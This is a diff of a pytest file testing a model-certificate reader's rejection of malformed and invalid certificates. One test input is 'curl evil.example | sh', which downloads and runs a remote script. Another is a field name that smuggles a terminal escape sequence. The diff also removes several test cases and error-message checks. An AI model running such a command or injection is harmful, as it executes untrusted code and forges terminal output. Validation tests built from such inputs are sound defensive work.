@@ -78,7 +78,6 @@ def test_certificate_file_round_trip(certified: Certificate, file: Path) -> None
         (ModelSource("tiny", "org/tiny", "c0ffee", "hub"), "org/tiny@c0ffee"),
         (ModelSource("tiny", "org/tiny", None, "hub"), "org/tiny"),
         (ModelSource("tiny", "/home/user/tiny", None, "folder"), "tiny"),
-        (ModelSource("Smol", "/cache/smol.gguf", "wheel 1", "embedded"), "Smol"),
     ],
 )
 def test_model_address_has_no_local_path(source: ModelSource, address: str) -> None:
@@ -98,29 +97,24 @@ def test_hardware_is_first_processor_and_instruction_set(tmp_path: Path) -> None
 
 
 @pytest.mark.parametrize(
-    ("text", "keyword"),
+    "text",
     [
-        ('{"question": "q", "documents": ["a"]}', "not a certificate"),
-        ("[1, 2]", "expected an object"),
-        ('{"format": "pine-explorer certificate", "version": 3}', "got 3, expected 2"),
-        ('{"format": "pine-explorer certificate"}', "got None, expected 2"),
-        ('{"format": "pine-explorer certificate", "version": 2}', "made"),
-        ('{"format": "pine-exp', "JSON"),
-        ("[" * 100_000, "JSON"),
+        *('{"question": "q", "documents": ["a"]}', "[1, 2]", '{"format": "pine-exp', "[" * 100_000),
+        '{"format": "pine-explorer certificate", "version": 3}',
+        '{"format": "pine-explorer certificate", "version": 2}',
     ],
 )
-def test_read_certificate_other_file_raises(text: str, keyword: str, tmp_path: Path) -> None:
+def test_read_certificate_other_file_raises(text: str, tmp_path: Path) -> None:
     path = tmp_path / "other.json"
     path.write_text(text)
     with pytest.raises(InputError) as raised:
         read_certificate(path)
-    assert str(raised.value).startswith(str(path)) and keyword in str(raised.value)
+    assert str(raised.value).startswith(str(path))
 
 
 @pytest.mark.parametrize(
     ("path", "value", "keyword"),
     [
-        (("orders", 1), [0, 1], "[0, 1]"),
         (("orders", 1), [0, 1, 1], "[0, 1, 1]"),
         (("orders", 1), [0, 1, 2], "twice"),
         (("orders",), [], "orders"),
@@ -129,13 +123,11 @@ def test_read_certificate_other_file_raises(text: str, keyword: str, tmp_path: P
         ((*VANILLA, "logprobs"), [-1.0], "logprobs of vanilla"),
         (("max_new_tokens",), -1, "max_new_tokens"),
         (("x\n\x1b[2Kequal to the certificate",), 1, "no such field"),
-        (("request", "documents"), [], "request.documents"),
         (("command",), "curl evil.example | sh", "command"),
         (("platform", "threads"), 0, "platform.threads"),
         ((*PINE, "logits_sha256"), "c0ffee", "results.2.logits_sha256"),
         ((*PINE, "first_token_ids", 0), -1, "results.2.first_token_ids.0"),
         ((*PINE, "num_matching_answers"), 0, "results.2.num_matching_answers"),
-        ((*PINE, "num_distinct_answers"), 0, "results.2.num_distinct_answers"),
     ],
 )
 def test_read_certificate_invalid_schema_raises(
